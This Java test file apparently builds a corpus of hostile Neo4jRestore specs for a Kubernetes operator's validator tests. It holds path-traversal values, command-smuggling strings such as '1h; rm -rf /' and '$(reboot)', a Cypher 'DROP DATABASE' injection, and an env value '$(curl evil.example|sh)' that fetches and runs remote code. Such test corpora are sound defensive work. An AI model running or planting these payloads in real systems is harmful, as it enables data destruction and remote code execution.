package io.neo4jrestore.runner.it;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.neo4jrestore.api.json.ApiMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;

/**
 * Hostile values for every string a {@code Neo4jRestore} carries, each with the refusal it must get
 * (from the CRD on the API server and from the runner) or the exact command it must produce.
 * Generated where one rule covers a family (paths, names, buckets, keys, quantities: every field
 * that rule guards times every hostile value of the family); written out where each case is its own
 * (additionalArgs, pointInTime, hooks). Pure: {@link HostileSpecIT} runs it.
 *
 * <p>Every refused case is a variation of a restore that would be dangerous if it got through: an
 * existing database, {@code force: true} and {@code stopCluster: true} against a 3-server cluster.
 */
final class HostileCorpus {
  private HostileCorpus() {}

  /** What the API server must answer: refused naming {@code field} with {@code message}. */
  record Crd(String field, String message) {}

  /**
   * A case the runner must refuse before anything changes.
   *
   * @param crd the CRD's refusal, or null when only the runner can judge it
   * @param reason the Ready condition's reason
   * @param messages parts of the status message, all required
   */
  record Refused(String id, ObjectNode resource, Crd crd, String reason, List<String> messages) {
    Refused(String id, ObjectNode resource, Crd crd, String reason, String message) {
      this(id, resource, crd, reason, List.of(message));
    }

    Refused withMore(String... more) {
      List<String> all = new ArrayList<>(messages);
      all.addAll(List.of(more));
      return new Refused(id, resource, crd, reason, List.copyOf(all));
    }

    @Override
    public String toString() {
      return id;
    }
  }

  /**
   * A case that must restore, with the exact neo4j-admin command of its restore Job.
   *
   * @param statements the exact hook statements the database must receive (database, then text)
   */
  record Accepted(String id, ObjectNode resource, List<String> command, List<String> statements) {
    @Override
    public String toString() {
      return id;
    }
  }

  static final String INVALID = "InvalidSpec";
  static final String CREDENTIALS = "CredentialsMissing";

  // the messages of the rules (the CRD carries the same text; RestoreValidator too)
  static final String DOTS = " must not contain '.' or '..' segments";
  static final String SHAPE = " must be segments of letters, digits and . _ - ~ = + @ :";
  static final String REPEATS = "backupPath starts with '/' followed by storage.path";
  static final String BUCKET = "bucket must be a bucket or container name";
  static final String NAME = " must be a Kubernetes resource name";
  static final String KEY = "keySecretKey must be a Secret key";
  static final String SIZE = "pvc.size must be a quantity";
  static final String IMAGE = "image must be an image reference";
  static final String EPOCH = "pointInTime must not be before 1970-01-01T00:00:00Z";
  static final String DATABASE = "databaseName must be 3 to 63 ASCII letters";
  static final String RESERVED = "databaseName must not start with \"system\"";
  static final String NOT_A_FLAG = "additionalArgs entries must be flags in --name or --name=value";
  static final String EXECUTES = "additionalArgs must not contain --expand-commands";
  static final String OWNED = "additionalArgs must not set --from-path";
  static final String DATE_TIME = "in body must be of type date-time";
  static final String PATTERN = "in body should match";
  static final String DRY_RUN = "is refused by the API server (dry run, nothing was created)";

  /**
   * The dangerous shape around {@code source} (and {@code options}): an existing database, force,
   * stopCluster, a 3-server cluster.
   */
  private static String prod(String sourceAndOptions) {
    return """
        apiVersion: neo4j.neo4j.com/v1alpha1
        kind: Neo4jRestore
        metadata: {name: x}
        spec:
          targetCluster: prod
          databaseName: movies
          force: true
          stopCluster: true
        """
        + sourceAndOptions.indent(2);
  }

  static final String S3 =
      prod(
          """
          source:
            type: s3
            storage: {type: s3, bucket: neo4j-backups, path: production/, cloud: {provider: aws, credentialsSecretRef: aws-creds}}
            backupPath: movies.backup
          """);

  static final String PVC =
      prod(
          """
          source:
            type: storage
            storage: {type: pvc, path: nightly/, pvc: {name: backups, storageClassName: standard, size: 10Gi}}
            backupPath: movies.backup
          """);

  static final String PITR =
      prod(
          """
          source:
            type: pitr
            pitr:
              baseBackup:
                type: storage
                storage: {type: s3, bucket: neo4j-backups, path: production/, cloud: {provider: aws, credentialsSecretRef: aws-creds}}
                backupPath: movies.backup
              logStorage: {type: s3, bucket: neo4j-logs, path: production/logs/, cloud: {provider: aws, credentialsSecretRef: aws-creds}}
              encryption: {enabled: true, keySecret: pitr-key, keySecretKey: key}
          """);

  /** A restore from a Neo4jBackup ({@code nightly}: S3, path {@code backups}). */
  static final String BACKUP = prod("source: {type: backup, backupRef: nightly}\n");

  /** With hooks on both sides: a late refusal would show as statements run or a Job. */
  static final String HOOKS =
      prod(
          """
          source:
            type: s3
            storage: {type: s3, bucket: neo4j-backups, cloud: {provider: aws, credentialsSecretRef: aws-creds}}
            backupPath: movies.backup
          options:
            preRestore:
              cypherStatements: ["CALL db.checkpoint()"]
              job: {template: {container: {image: "registry.example/check:1", env: [{name: PHASE, value: pre}]}}}
            postRestore:
              cypherStatements: ["CALL db.awaitIndexes(60)"]
              job: {template: {container: {image: "registry.example/check:1", env: [{name: PHASE, value: post}]}}}
          """);

  /** Values that break the path grammar, each as the rule that must name it. */
  static List<String[]> hostilePaths() {
    List<String[]> out = new ArrayList<>();
    for (String v :
        List.of(
            "..",
            ".",
            "../other-team/movies.backup",
            "a/../../etc",
            "nightly/..",
            "/..",
            "./movies.backup",
            "a/./b")) {
      out.add(new String[] {v, DOTS});
    }
    for (String v : List.of("a//b", "//a", "", "/")) {
      out.add(new String[] {v, SHAPE});
    }
    // every character outside the grammar that a shell, a URI, neo4j-admin or a terminal reads
    List<String> characters =
        new ArrayList<>(
            List.of(
                " ",
                "\\",
                ",",
                "*",
                "?",
                "%",
                "#",
                "\"",
                "'",
                "`",
                "$",
                ";",
                "|",
                "&",
                "<",
                "[",
                "{",
                "!",
                "^",
                "\u00e9",
                "e\u0301",
                "\u202e",
                "\u200b",
                "\ufeff",
                "\uff0e\uff0e",
                "\u2215"));
    for (char c = 0; c < 0x20; c += 3) {
      characters.add(String.valueOf(c));
    }
    characters.addAll(List.of("\n", "\r", "\t", "\u007f"));
    for (String c : characters) {
      out.add(new String[] {"a" + c + "b/movies.backup", SHAPE});
    }
    return out;
  }

  /** Names that are not Kubernetes resource names. */
  static final List<String> HOSTILE_NAMES =
      List.of(
          "../admin",
          "a/b",
          "Admin",
          "a b",
          "a\nb",
          "-a",
          "a-",
          "a..b",
          ".",
          "..",
          "a_b",
          "%2e%2e",
          "a;b",
          "");

  static final List<String> HOSTILE_BUCKETS =
      List.of(
          "other/../neo4j-backups",
          "neo4j-backups/other",
          "..",
          "Neo4j-Backups",
          "neo4j backups",
          "neo4j\nbackups",
          "-b",
          "b-",
          "a..b",
          "$web",
          "b?x",
          "b#x",
          "b:1",
          "",
          "s3://evil");

  static List<Refused> refused() {
    List<Refused> out = new ArrayList<>();
    paths(out);
    ambiguous(out);
    names(out);
    buckets(out);
    keysAndQuantities(out);
    durationsAndEnums(out);
    databaseNames(out);
    additionalArgs(out);
    pointsInTime(out);
    hooks(out);
    fromOtherObjects(out);
    return out;
  }

  private static void paths(List<Refused> out) {
    String[][] fields = {
      {S3, "/spec/source/backupPath", "spec.source.backupPath", "backupPath"},
      {S3, "/spec/source/storage/path", "spec.source.storage.path", "path"},
      {PVC, "/spec/source/storage/path", "spec.source.storage.path", "path"},
      {PVC, "/spec/source/backupPath", "spec.source.backupPath", "backupPath"},
      {
        PITR,
        "/spec/source/pitr/baseBackup/backupPath",
        "spec.source.pitr.baseBackup.backupPath",
        "backupPath"
      },
      {
        PITR,
        "/spec/source/pitr/baseBackup/storage/path",
        "spec.source.pitr.baseBackup.storage.path",
        "path"
      },
      {PITR, "/spec/source/pitr/logStorage/path", "spec.source.pitr.logStorage.path", "path"},
    };
    for (String[] f : fields) {
      for (String[] v : hostilePaths()) {
        out.add(rule(f[0], f[1], v[0], f[2], f[3] + v[1]));
      }
    }
  }

  private static void ambiguous(List<Refused> out) {
    String[][] pairs = {
      {"production/", "/production/movies.backup"},
      {"production/", "/production"},
      {"/production", "/production/"},
      {"production", "/production/backup-20250120-020000"}
    };
    for (String[] p : pairs) {
      ObjectNode r = with(S3, "/spec/source/storage/path", p[0]);
      out.add(rule(r, "/spec/source/backupPath", p[1], "spec.source.backupPath", REPEATS));
      ObjectNode b = with(PITR, "/spec/source/pitr/baseBackup/storage/path", p[0]);
      out.add(
          rule(
              b,
              "/spec/source/pitr/baseBackup/backupPath",
              p[1],
              "spec.source.pitr.baseBackup.backupPath",
              REPEATS));
    }
    // the Neo4jBackup's storage.path is only known to the runner
    for (String[] p :
        new String[][] {
          {"nightly", "/backups/movies.backup"}, {"nopath", "/backups"}, {"nightly", "/backups/"}
        }) {
      ObjectNode r = with(BACKUP, "/spec/source/backupRef", p[0]);
      set(r, "/spec/source/backupPath", p[1]);
      out.add(
          new Refused(
              "Neo4jBackup " + p[0] + " (storage.path backups), backupPath " + show(p[1]),
              r,
              null,
              INVALID,
              "starts with '/' followed by Neo4jBackup "));
    }
  }

  private static void names(List<Refused> out) {
    String[][] fields = {
      {S3, "/spec/targetCluster", "spec.targetCluster", "targetCluster"},
      {BACKUP, "/spec/source/backupRef", "spec.source.backupRef", "backupRef"},
      {
        PITR + "x",
        "/spec/source/pitr/baseBackup/backupRef",
        "spec.source.pitr.baseBackup.backupRef",
        "backupRef"
      },
      {
        S3,
        "/spec/source/storage/cloud/credentialsSecretRef",
        "spec.source.storage.cloud.credentialsSecretRef",
        "credentialsSecretRef"
      },
      {
        PITR,
        "/spec/source/pitr/logStorage/cloud/credentialsSecretRef",
        "spec.source.pitr.logStorage.cloud.credentialsSecretRef",
        "credentialsSecretRef"
      },
      {
        "identity",
        "/spec/source/storage/cloud/identity/serviceAccount",
        "spec.source.storage.cloud.identity.serviceAccount",
        "serviceAccount"
      },
      {PVC, "/spec/source/storage/pvc/name", "spec.source.storage.pvc.name", "pvc.name"},
      {
        PVC,
        "/spec/source/storage/pvc/storageClassName",
        "spec.source.storage.pvc.storageClassName",
        "pvc.storageClassName"
      },
      {
        PITR,
        "/spec/source/pitr/encryption/keySecret",
        "spec.source.pitr.encryption.keySecret",
        "keySecret"
      },
    };
    for (String[] f : fields) {
      for (String v : HOSTILE_NAMES) {
        out.add(rule(nameBase(f[0]), f[1], v, f[2], f[3] + NAME));
      }
      // longer than the schema allows: the runner checks the schema too
      ObjectNode r = nameBase(f[0]);
      set(r, f[1], "a".repeat(254));
      out.add(
          new Refused(
              f[2] + " of 254 characters",
              r,
              new Crd(f[2], "Too long: may not be more than 253 bytes"),
              INVALID,
              f[2] + ": Too long: may not be more than 253 bytes"));
    }
  }

  /** The resource a name field is varied in. */
  private static ObjectNode nameBase(String base) {
    if (base.equals("identity")) {
      ObjectNode r = with(S3, "/spec/source/storage/cloud", null);
      set(r, "/spec/source/storage/cloud/provider", "aws");
      set(r, "/spec/source/storage/cloud/identity/provider", "aws");
      return r;
    }
    if (base.equals(PITR + "x")) {
      ObjectNode r = parse(PITR);
      ObjectNode b = (ObjectNode) r.at("/spec/source/pitr/baseBackup");
      b.removeAll();
      b.put("type", "backup").put("backupRef", "nightly");
      return r;
    }
    return parse(base);
  }

  private static void buckets(List<Refused> out) {
    String[][] fields = {
      {S3, "/spec/source/storage/bucket", "spec.source.storage.bucket"},
      {
        PITR,
        "/spec/source/pitr/baseBackup/storage/bucket",
        "spec.source.pitr.baseBackup.storage.bucket"
      },
      {PITR, "/spec/source/pitr/logStorage/bucket", "spec.source.pitr.logStorage.bucket"},
    };
    for (String[] f : fields) {
      for (String v : HOSTILE_BUCKETS) {
        out.add(rule(f[0], f[1], v, f[2], BUCKET));
      }
    }
  }

  private static void durationsAndEnums(List<Refused> out) {
    String[][] durations = {
      {S3, "/spec/timeout", "spec.timeout", "timeout must be a duration such as 30m, 2h or 1h30m"},
      {
        PITR,
        "/spec/source/pitr/logRetention",
        "spec.source.pitr.logRetention",
        "logRetention must be a duration such as 30m, 2h or 7d"
      },
      {
        PITR,
        "/spec/source/pitr/recoveryPointObjective",
        "spec.source.pitr.recoveryPointObjective",
        "recoveryPointObjective must be a duration such as 30s, 1m or 5m"
      },
      {
        HOOKS,
        "/spec/options/preRestore/job/timeout",
        "spec.options.preRestore.job.timeout",
        "timeout must be a duration such as 30m, 2h or 1h30m"
      },
    };
    for (String[] d : durations) {
      for (String v : List.of("1h; rm -rf /", "-5m", "1w", "", "1h\n", "1 h", "P1D", "1h\u00a0")) {
        out.add(rule(d[0], d[1], v, d[2], d[3]));
      }
    }
    // well-formed, but no Job can have that deadline: refused when the Job is built, before changes
    String[][] deadlines = {
      {S3, "/spec/timeout", "0s", "a Job deadline must be positive"},
      {S3, "/spec/timeout", "99999999999999999999d", "is too long a duration"},
      {HOOKS, "/spec/options/postRestore/job/timeout", "0.0s", "a Job deadline must be positive"},
      {PITR, "/spec/source/pitr/logRetention", "99999999999999999999d", "is too long a duration"},
      {
        PITR,
        "/spec/source/pitr/recoveryPointObjective",
        "99999999999999999999d",
        "is too long a duration"
      },
      {
        HOOKS,
        "/spec/options/preRestore/job/timeout",
        "99999999999999999999d",
        "too long a duration"
      },
    };
    for (String[] d : deadlines) {
      out.add(
          new Refused(
              d[1].substring(1).replace('/', '.') + " = " + show(d[2]),
              with(d[0], d[1], d[2]),
              null,
              INVALID,
              d[3]));
    }
    String[][] enums = {
      {S3, "/spec/source/type", "spec.source.type"},
      {S3, "/spec/source/storage/type", "spec.source.storage.type"},
      {S3, "/spec/source/storage/cloud/provider", "spec.source.storage.cloud.provider"},
      {PITR, "/spec/source/pitr/baseBackup/type", "spec.source.pitr.baseBackup.type"},
      {PITR, "/spec/source/pitr/encryption/algorithm", "spec.source.pitr.encryption.algorithm"},
      {PITR, "/spec/source/pitr/compression/algorithm", "spec.source.pitr.compression.algorithm"},
    };
    for (String[] e : enums) {
      for (String v : List.of("S3", " s3", "s3\n", "", "aws;gcp")) {
        out.add(rule(e[0], e[1], v, e[2], "Unsupported value"));
      }
    }
  }

  private static void keysAndQuantities(List<Refused> out) {
    for (String v : List.of("..", ".", "..key", "a/b", "../key", "a b", "key\n", "")) {
      out.add(
          rule(
              PITR,
              "/spec/source/pitr/encryption/keySecretKey",
              v,
              "spec.source.pitr.encryption.keySecretKey",
              KEY));
    }
    for (String v : List.of("100 GB", "-1Gi", "1e3", "Gi", "", "100Gib", "10\n", "1/2")) {
      out.add(rule(PVC, "/spec/source/storage/pvc/size", v, "spec.source.storage.pvc.size", SIZE));
    }
  }

  private static void databaseNames(List<Refused> out) {
    for (String v :
        List.of(
            "movies`; DROP DATABASE neo4j",
            "movies'",
            "movies\"",
            "mo",
            "movies\n",
            "movies db",
            "-movies",
            "@movies",
            "movies_",
            "movies.",
            "_movies",
            "movies$(id)",
            "\u00e9movies",
            "")) {
      out.add(rule(S3, "/spec/databaseName", v, "spec.databaseName", DATABASE));
    }
    for (String v : List.of("system2", "SYSTEMX", "System-db")) {
      out.add(rule(S3, "/spec/databaseName", v, "spec.databaseName", RESERVED));
    }
    out.add(
        new Refused(
            "spec.databaseName of 64 characters",
            with(S3, "/spec/databaseName", "m".repeat(64)),
            new Crd("spec.databaseName", "Too long: may not be more than 63 bytes"),
            INVALID,
            "spec.databaseName: Too long: may not be more than 63 bytes"));
  }

  private static void additionalArgs(List<Refused> out) {
    String[][] byCrd = {
      {"movies", NOT_A_FLAG},
      {"-h", NOT_A_FLAG},
      {"--expand-commands", EXECUTES},
      {"--additional-config=/tmp/x.conf", EXECUTES},
      {"--from-path=s3://evil/x.backup", OWNED},
      {"--overwrite-destination=true", OWNED},
      {"--restore-until=1", OWNED},
      {"--temp-path=/tmp", OWNED},
      {"--source-database=neo4j", OWNED}
    };
    for (String[] a : byCrd) {
      out.add(args(List.of(a[0]), new Crd("spec.options.additionalArgs", a[1]), a[1]));
    }
    // the CRD cannot know neo4j-admin's flags per version: the runner's allow-list refuses these
    String[][] byRunner = {
      {"--check-consistency", "is not an option of neo4j-admin database restore"},
      {"--help", "makes neo4j-admin print its help"},
      {"--force", "is not an option of neo4j-admin database restore"},
      {"--verbose=true", "takes no value"},
      {"--Verbose", "is not a flag neo4j-admin database restore accepts"},
      {"--to-path-data=/etc", "must name a directory under /data"},
      {"--to-path-data=/data/../etc", "must name a directory under /data"},
      {"--to-path-txn=relative", "must name a directory under /data"},
      {"--to-path-data=/data/a,/etc", "must name a directory under /data"},
      {"--to-path-data", "needs its value in the same argument"},
      {"--to-path-data=", "needs its value in the same argument"},
      {"--verbose\n--expand-commands", "contains a control character"},
      {"--verbose --expand-commands", "is not a flag neo4j-admin database restore accepts"},
      {"--database=neo4j", "is not an option of neo4j-admin database restore"}
    };
    for (String[] a : byRunner) {
      out.add(args(List.of(a[0]), null, a[1]));
    }
    out.add(args(List.of("--verbose", "--verbose"), null, "repeats --verbose"));
  }

  private static Refused args(List<String> args, Crd crd, String message) {
    ObjectNode r = parse(S3);
    ArrayNode a = ((ObjectNode) r.get("spec")).putObject("options").putArray("additionalArgs");
    args.forEach(a::add);
    return new Refused(
        "spec.options.additionalArgs = " + show(String.join(" | ", args)),
        r,
        crd,
        INVALID,
        message);
  }

  private static void pointsInTime(List<Refused> out) {
    String f = "spec.source.pointInTime";
    String[][] cases = {
      {"2025-01-04T12:30:00", PATTERN},
      {"2025-01-04 12:30:00Z", PATTERN},
      {"2025-01-04T12:30:00.Z", PATTERN},
      {"+2025-01-04T12:30:00Z", PATTERN},
      {"10000-01-01T00:00:00Z", PATTERN},
      {"2025-01-04T12:30:00+1:00", PATTERN},
      {"\uff12\uff10\uff12\uff15-01-04T12:30:00Z", PATTERN},
      {"2025-01-04T12:30:00Z\n", PATTERN},
      {"2025-02-29T00:00:00Z", DATE_TIME},
      {"2025-13-01T00:00:00Z", DATE_TIME},
      {"2025-01-04T24:00:00Z", DATE_TIME},
      {"2016-12-31T23:59:60Z", DATE_TIME},
      {"2025-01-04T12:30:00+24:00", PATTERN},
      {"2025-01-04T12:30:00+18:01", PATTERN},
      {"2025-01-04t12:30:00z", PATTERN},
      {"2025-01-04T12:30:00.1234567890Z", PATTERN},
      {"1969-12-31T23:59:59Z", EPOCH},
      {"1970-01-01T00:59:59+01:00", EPOCH},
      {"0001-01-01T00:00:00Z", EPOCH},
      {"0000-01-01T00:00:00Z", EPOCH}
    };
    for (String[] c : cases) {
      out.add(rule(S3, "/spec/source/pointInTime", c[0], f, c[1]));
    }
  }

  private static void hooks(List<Refused> out) {
    String post = "/spec/options/postRestore/job/template/container";
    String pre = "/spec/options/preRestore/job/template/container";
    out.add(
        rule(
            HOOKS,
            "/spec/options/postRestore/cypherStatements/0",
            "",
            "spec.options.postRestore.cypherStatements[0]",
            "should be at least 1 chars long"));
    out.add(
        rule(
            HOOKS,
            post + "/env/0/name",
            "",
            "spec.options.postRestore.job.template.container.env[0].name",
            "should be at least 1 chars long"));
    for (String image :
        List.of(" registry.example/check:1", "registry.example/check:1 ", "check:1\n", "a b")) {
      out.add(
          rule(
              HOOKS,
              post + "/image",
              image,
              "spec.options.postRestore.job.template.container.image",
              IMAGE));
    }
    // what only the API server's pod rules judge: a dry run of the hook Job refuses it
    Object[][] dryRun = {
      {post + "/env/0/name", "A=B", "env[0].name"},
      {pre + "/env/0/name", "PHASE=x", "env[0].name"},
      {post + "/env/0/valueFrom/secretKeyRef", "{\"name\": \"../admin\", \"key\": \"k\"}", "name"},
      {post + "/env/0/valueFrom/secretKeyRef", "{\"name\": \"s\", \"key\": \"../k\"}", "key"},
      {
        post + "/env/0/valueFrom/configMapKeyRef",
        "{\"name\": \"Bad Name\", \"key\": \"k\"}",
        "name"
      },
      {
        post + "/env/0/valueFrom/fieldRef",
        "{\"fieldPath\": \"spec.nodeName; rm -rf /\"}",
        "fieldPath"
      },
      {post + "/env/0/valueFrom/resourceFieldRef", "{\"resource\": \"cpu; id\"}", "resource"},
    };
    for (Object[] d : dryRun) {
      String path = (String) d[0];
      String value = (String) d[1];
      ObjectNode r = parse(HOOKS);
      if (value.startsWith("{")) {
        ObjectNode env = (ObjectNode) r.at(path.substring(0, path.indexOf("/valueFrom")));
        env.remove("value");
        set(r, path, parseJson(value));
      } else {
        set(r, path, value);
      }
      String phase = path.startsWith(pre) ? "preRestore" : "postRestore";
      out.add(
          new Refused(
                  path.substring(path.indexOf("/options/") + 9) + " = " + show(value),
                  r,
                  null,
                  INVALID,
                  DRY_RUN + ": ")
              .withMore("spec.options." + phase + ".job", (String) d[2]));
    }
    ObjectNode divisor = parse(HOOKS);
    ObjectNode env = (ObjectNode) divisor.at(post + "/env/0");
    env.remove("value");
    set(
        divisor,
        post + "/env/0/valueFrom/resourceFieldRef",
        parseJson("{\"resource\": \"limits.cpu\", \"divisor\": \"abc\"}"));
    out.add(
        new Refused(
            "postRestore resourceFieldRef.divisor = \"abc\"",
            divisor,
            null,
            INVALID,
            "cannot build the post-restore hook Job"));
    ObjectNode annotated = with(S3, "/spec/source/storage/cloud", null);
    set(annotated, "/spec/source/storage/cloud/provider", "aws");
    set(annotated, "/spec/source/storage/cloud/identity/provider", "aws");
    set(
        annotated,
        "/spec/source/storage/cloud/identity/autoCreate/annotations",
        parseJson("{\"bad key/../x\": \"v\"}"));
    out.add(
        new Refused("autoCreate annotation key \"bad key/../x\"", annotated, null, INVALID, DRY_RUN)
            .withMore("spec.source.storage.cloud.identity.autoCreate"));
  }

  /** Hostile but valid hook statements: each must reach Neo4j exactly as written. */
  static final List<String> STATEMENTS =
      List.of(
          "MATCH (n:Movie) WHERE n.title = 'x\"; DROP DATABASE neo4j; //' RETURN n",
          "CREATE (:Note {text: \"`backtick` $(reboot) ${IFS}\"})",
          "MATCH (n)\nRETURN count(n) // a newline and a comment",
          "SHOW USERS",
          "/* on system */ // and a line\n  show databases yield name",
          "RETURN '\u202e\u200b' AS invisible");

  /** The database each of {@link #STATEMENTS} must run on. */
  static final List<String> STATEMENT_DATABASES =
      List.of("movies", "movies", "movies", "system", "system", "movies");

  /** Hook Job args and env values: each must reach the container exactly, never a log. */
  static final List<String> HOOK_ARGS = List.of("--name=$(reboot)", "a b", "`id`", "l1\nl2", "");

  static final String HOOK_ENV_VALUE = "$(curl evil.example|sh) never-logged";

  /** Restores into the standalone {@code solo} (2025.04, online, a new database). */
  static List<Accepted> accepted() {
    List<Accepted> out = new ArrayList<>();
    String head =
        """
        apiVersion: neo4j.neo4j.com/v1alpha1
        kind: Neo4jRestore
        metadata: {name: x}
        spec:
          targetCluster: solo
          databaseName: movies
        """;
    String s3 =
        "    storage: {type: s3, bucket: neo4j-backups, path: production/, cloud: {provider: aws,"
            + " credentialsSecretRef: aws-creds}}\n";
    List<String> restore = List.of("neo4j-admin", "database", "restore");
    out.add(
        accepted(
            "the reference's S3 example keeps storage.path",
            head
                + "  source:\n    type: storage\n"
                + s3
                + "    backupPath: /backups/production/backup-20250120-020000\n",
            restore,
            "--from-path=s3://neo4j-backups/production/backups/production/backup-20250120-020000",
            "--source-database=movies",
            "--temp-path=/restore-temp"));
    out.add(
        accepted(
            "the reference's GCS example, pointInTime at the end of 9999",
            head
                + """
                  source:
                    type: gcs
                    storage: {type: gcs, bucket: neo4j-analytics-backups, path: weekly/, cloud: {provider: gcp, credentialsSecretRef: gcs-creds}}
                    backupPath: /backups/analytics-db/backup-20250120-030000
                    pointInTime: "9999-12-31T23:59:59Z"
                """,
            restore,
            "--from-path=gs://neo4j-analytics-backups/weekly/backups/analytics-db/backup-20250120-030000",
            "--source-database=movies",
            "--restore-until=9999-12-31 23:59:59",
            "--temp-path=/restore-temp"));
    out.add(
        accepted(
            "the reference's Azure example, pointInTime across a year in UTC",
            head
                + """
                  source:
                    type: azure
                    storage: {type: azure, bucket: enterprise-backups, path: production/, cloud: {provider: azure, credentialsSecretRef: azure-creds}}
                    backupPath: /backups/customer-data/backup-20250120-020000.backup
                    pointInTime: "2025-01-01T00:30:00+01:00"
                """,
            restore,
            "--from-path=azb://acct/enterprise-backups/production/backups/customer-data/backup-20250120-020000.backup",
            "--restore-until=2024-12-31 23:30:00",
            "--temp-path=/restore-temp",
            "movies"));
    out.add(
        accepted(
            "a PVC path with every allowed punctuation, the westernmost offset",
            head
                + """
                  source:
                    type: storage
                    storage: {type: pvc, path: /nightly, pvc: {name: backups}}
                    backupPath: a=b/c+d@e:f~g_h/movies-2025-01-20T02-00-00.backup
                    pointInTime: "2025-01-04T12:30:00-14:00"
                """,
            restore,
            "--from-path=/backup/nightly/a=b/c+d@e:f~g_h/movies-2025-01-20T02-00-00.backup",
            "--restore-until=2025-01-05 02:30:00",
            "--temp-path=/restore-temp",
            "movies"));
    out.add(
        accepted(
            "a Neo4jBackup's storage.path, a nanosecond fraction dropped",
            head
                + """
                  source:
                    type: backup
                    backupRef: nightly
                    backupPath: movies.backup
                    pointInTime: "2025-01-04T13:30:00.999999999+01:00"
                """,
            restore,
            "--from-path=s3://neo4j-backups/backups/movies.backup",
            "--restore-until=2025-01-04 12:30:00",
            "--temp-path=/restore-temp",
            "movies"));
    out.add(
        accepted(
            "no storage.path, the epoch, shell characters in an accepted flag",
            head
                + """
                  source:
                    type: s3
                    storage: {type: s3, bucket: neo4j-backups, cloud: {provider: aws, credentialsSecretRef: aws-creds}}
                    backupPath: /movies.backup
                    pointInTime: "1970-01-01T00:00:00Z"
                  options:
                    additionalArgs: ["--verbose", "--to-path-data=/data/$(reboot) `id` \\"q\\""]
                """,
            restore,
            "--from-path=s3://neo4j-backups/movies.backup",
            "--restore-until=1970-01-01 00:00:00",
            "--temp-path=/restore-temp",
            "movies",
            "--verbose",
            "--to-path-data=/data/$(reboot) `id` \"q\""));
    out.add(
        accepted(
            "a storage.path with a leading slash, a folder",
            head
                + """
                  source:
                    type: s3
                    storage: {type: s3, bucket: neo4j-backups, path: /production, cloud: {provider: aws, credentialsSecretRef: aws-creds}}
                    backupPath: folder/
                """,
            restore,
            "--from-path=s3://neo4j-backups/production/folder",
            "--source-database=movies",
            "--temp-path=/restore-temp"));
    ObjectNode longName =
        parse(head + "  source:\n    type: s3\n" + s3 + "    backupPath: movies.backup\n");
    ((ObjectNode) longName.get("metadata"))
        .put("name", String.join(".", java.util.Collections.nCopies(4, "l".repeat(62))) + "ab");
    out.add(
        new Accepted(
            "a restore named with 253 characters (its Jobs and labels still fit)",
            longName,
            List.of(
                "neo4j-admin",
                "database",
                "restore",
                "--from-path=s3://neo4j-backups/production/movies.backup",
                "--temp-path=/restore-temp",
                "movies"),
            null));
    ObjectNode hooks =
        parse(head + "  source:\n    type: s3\n" + s3 + "    backupPath: movies.backup\n");
    ArrayNode statements =
        ((ObjectNode) hooks.get("spec"))
            .putObject("options")
            .putObject("postRestore")
            .putArray("cypherStatements");
    STATEMENTS.forEach(statements::add);
    ObjectNode container =
        ((ObjectNode) hooks.at("/spec/options/postRestore"))
            .putObject("job")
            .putObject("template")
            .putObject("container");
    container.put("image", "registry.example/check:1");
    container.putArray("command").add("/check");
    HOOK_ARGS.forEach(container.putArray("args")::add);
    container.putArray("env").addObject().put("name", "CHECK").put("value", HOOK_ENV_VALUE);
    List<String> calls =
        new ArrayList<>(List.of("exists movies", "bringUp movies existed=false seeder=solo-0"));
    for (int i = 0; i < STATEMENTS.size(); i++) {
      calls.add("cypher " + STATEMENT_DATABASES.get(i) + " " + STATEMENTS.get(i));
    }
    out.add(
        new Accepted(
            "hostile hook statements and hook Job args and env, exactly as written",
            hooks,
            List.of(
                "neo4j-admin",
                "database",
                "restore",
                "--from-path=s3://neo4j-backups/production/movies.backup",
                "--temp-path=/restore-temp",
                "movies"),
            calls));
    return out;
  }

  private static Accepted accepted(String id, String yaml, List<String> head, String... args) {
    List<String> command = new ArrayList<>(head);
    command.addAll(List.of(args));
    return new Accepted(id, parse(yaml), List.copyOf(command), null);
  }

  /** Paths and names that come from other objects: a Neo4jBackup, a credentials Secret. */
  private static void fromOtherObjects(List<Refused> out) {
    out.add(
        new Refused(
            "Neo4jBackup evil-path (storage.path ../../other-team)",
            with(BACKUP, "/spec/source/backupRef", "evil-path"),
            null,
            INVALID,
            "Neo4jBackup "));
    out.add(
        new Refused(
            "Neo4jBackup evil-bucket (bucket other/../x)",
            with(BACKUP, "/spec/source/backupRef", "evil-bucket"),
            null,
            INVALID,
            "spec.storage.bucket \"other/../x\" is not a bucket or container name"));
    ObjectNode azure = parse(S3);
    set(azure, "/spec/source/type", "azure");
    ObjectNode storage = (ObjectNode) azure.at("/spec/source/storage");
    storage.put("type", "azure");
    ((ObjectNode) storage.get("cloud"))
        .put("provider", "azure")
        .put("credentialsSecretRef", "azure-evil");
    out.add(
        new Refused(
            "AZURE_STORAGE_ACCOUNT \"acct/../other\" in the credentials Secret",
            azure,
            null,
            CREDENTIALS,
            "is not a storage account name"));
  }

  /** A CRD rule's case: both the CRD and the runner's validator name {@code field}. */
  private static Refused rule(String base, String pointer, String value, String field, String m) {
    return rule(parse(base), pointer, value, field, m);
  }

  private static Refused rule(
      ObjectNode base, String pointer, String value, String field, String message) {
    set(base, pointer, value);
    return new Refused(
        field + " = " + show(value),
        base,
        new Crd(field, message),
        INVALID,
        List.of(field + ": ", message));
  }

  static ObjectNode with(String base, String pointer, String value) {
    ObjectNode r = parse(base);
    set(r, pointer, value);
    return r;
  }

  /** Sets (or with null removes) the value at a JSON pointer, creating objects on the way. */
  static void set(ObjectNode root, String pointer, Object value) {
    String[] parts = pointer.substring(1).split("/");
    JsonNode node = root;
    for (int i = 0; i < parts.length - 1; i++) {
      JsonNode next = node.isArray() ? node.get(Integer.parseInt(parts[i])) : node.get(parts[i]);
      if (next == null || next.isNull()) {
        next = ((ObjectNode) node).putObject(parts[i]);
      }
      node = next;
    }
    String last = parts[parts.length - 1];
    if (node.isArray()) {
      ((ArrayNode) node).set(Integer.parseInt(last), ApiMapper.json().valueToTree(value));
    } else if (value == null) {
      ((ObjectNode) node).remove(last);
    } else {
      ((ObjectNode) node).set(last, ApiMapper.json().valueToTree(value));
    }
  }

  static ObjectNode parse(String yaml) {
    try {
      return (ObjectNode) ApiMapper.yaml().readTree(yaml);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

